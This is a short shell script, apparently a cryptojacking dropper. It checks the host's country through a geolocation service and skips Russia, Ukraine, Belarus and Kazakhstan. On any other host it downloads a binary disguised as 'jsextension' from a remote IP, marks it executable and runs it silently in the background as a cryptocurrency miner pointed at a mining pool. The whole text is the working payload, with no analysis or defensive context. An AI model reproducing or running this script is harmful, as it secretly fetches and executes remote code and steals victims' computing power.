IP=$(curl -k https://geo.example/json/ | grep -o '"country_code":"[A-Z]*"' | cut -d'"' -f4)
if [ "$IP" = "RU" ] || [ "$IP" = "UA" ] || [ "$IP" = "BY" ] || [ "$IP" = "KZ" ]; then
  echo "$IP"
else
  curl http://198.51.100.7/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://198.51.100.7/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.minexmr.example:443 -u 0x000000000000000000000000000000000000dEaD --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
fi
